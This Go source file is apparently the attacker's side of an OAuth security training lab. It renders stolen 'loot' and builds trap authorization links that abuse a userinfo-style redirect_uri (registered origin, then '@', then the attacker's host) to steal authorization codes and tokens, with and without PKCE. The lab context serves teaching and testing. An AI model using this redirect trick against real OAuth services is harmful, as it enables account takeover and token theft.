package web

// The attacker's page: the loot, and one section per attack with the trap to send Alice.

import (
	"net/http"
	"net/url"

	"github.com/labstack/echo/v4"
)

// handleHome shows the loot and the traps.
func handleHome(a *attacker) echo.HandlerFunc {
	return func(c echo.Context) error {
		a.mu.Lock()
		stolen := append([]loot(nil), a.loot...)
		bait := a.bait
		a.mu.Unlock()
		return a.pages.render(c, http.StatusOK, "home.html", map[string]any{
			"Loot":         stolen,
			"Bait":         bait,
			"Flow":         a.cfg.PrintShopURL + "/flow",
			"PrintShop":    a.cfg.PrintShopURL,
			"Public":       a.cfg.PublicURL,
			"StealCode":    a.trapURL("code", "printing", true),
			"StealNoPKCE":  a.trapURL("code", "printing", false),
			"StealToken":   a.trapURL("token", "legacy", false),
			"RedirectURI":  a.stolenRedirectURI(),
			"AccountsURL":  a.cfg.AccountsURL,
			"PhotosURL":    a.cfg.PhotosURL,
			"LabResource":  a.cfg.PublicURL,
			"APIEndpoint":  a.cfg.PublicURL + "/api/hello",
			"RegisteredAt": a.cfg.PrintShopURL,
		})
	}
}

// stolenRedirectURI is the userinfo trick (attack 01): it starts with PrintShop's registered
// origin, so a server that matches prefixes accepts it, but everything before the @ is user
// information (RFC 3986 §3.2.1), and the host is the attacker's.
func (a *attacker) stolenRedirectURI() string {
	return a.cfg.PrintShopURL + "@" + a.host() + "/steal"
}

// trapURL is an authorization request for a real client whose redirect_uri is the attacker's.
// With a challenge, the code is bound to a verifier the attacker made up; without one it is
// bound to nothing, which only AUTHSERVER_INSECURE_PKCE_OPTIONAL allows.
func (a *attacker) trapURL(responseType, clientID string, withPKCE bool) string {
	q := url.Values{"response_type": {responseType}, "client_id": {clientID}, "redirect_uri": {a.stolenRedirectURI()},
		"scope": {"photos.read"}, "state": {randomString()}}
	if withPKCE {
		q.Set("code_challenge", "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM")
		q.Set("code_challenge_method", "S256")
	}
	return a.cfg.AccountsURL + "/authorize?" + q.Encode()
}
